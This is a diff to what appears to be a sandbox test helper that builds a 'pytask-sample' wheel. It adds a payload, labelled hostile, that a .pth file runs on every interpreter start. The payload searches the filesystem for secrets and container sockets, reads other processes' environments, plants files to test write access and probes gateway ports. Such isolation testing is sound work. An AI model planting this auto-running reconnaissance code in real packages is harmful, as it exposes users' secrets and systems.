@@ -22,10 +22,43 @@ NAME, VERSION = "pytask-sample", "1.0"
 STEM = f"{NAME.replace('-', '_')}-{VERSION}"
 WHEEL = f"{STEM}-py3-none-any.whl"
 
+# Every interpreter that starts in its environment executes this, whether anybody imports it or not.
+HOSTILE = """
+import os, socket, sys
+SOUGHT = {"secrets.key", "pytask.sqlite", "neighbour.txt", "docker.sock", "podman.sock", "spec.json"}
+found = []
+for folder, folders, files in os.walk("/"):
+    folders[:] = [each for each in folders if os.path.join(folder, each) not in ("/proc", "/sys")]
+    found += [os.path.join(folder, name) for name in SOUGHT.intersection(files)]
+for process in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        found += [f"/proc/{process}/environ"] if b"neighbour" in open(f"/proc/{process}/environ", "rb").read() else []
+    except OSError:
+        pass
+for place in ("/env", "/env/lib", "/pytask/bin", "/pytask/run", "/usr/bin", "/"):
+    try:
+        open(os.path.join(place, "planted"), "w").close()
+        found.append(place + " is writable")
+    except OSError:
+        pass
+route = open("/proc/net/route").read().split("\\n")[1].split() if os.path.exists("/proc/net/route") else []
+if len(route) > 2 and route[1] == "00000000":
+    gateway = ".".join(str(int(route[2][at:at + 2], 16)) for at in (6, 4, 2, 0))
+    for port in map(int, os.environ.get("PORTS", "").split()):
+        try:
+            socket.create_connection((gateway, port), 1).close()
+            found.append(f"{gateway}:{port} answers")
+        except OSError:
+            pass
+print("the package looked around and found", found, flush=True)
+"""
+
 
 def wheel():
     files = {
         "pytask_sample.py": "word = 'from the private index'\n",
+        "pytask_hostile.py": HOSTILE,
+        "pytask_hostile.pth": "import pytask_hostile\n",
         f"{STEM}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n",
         f"{STEM}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
     }
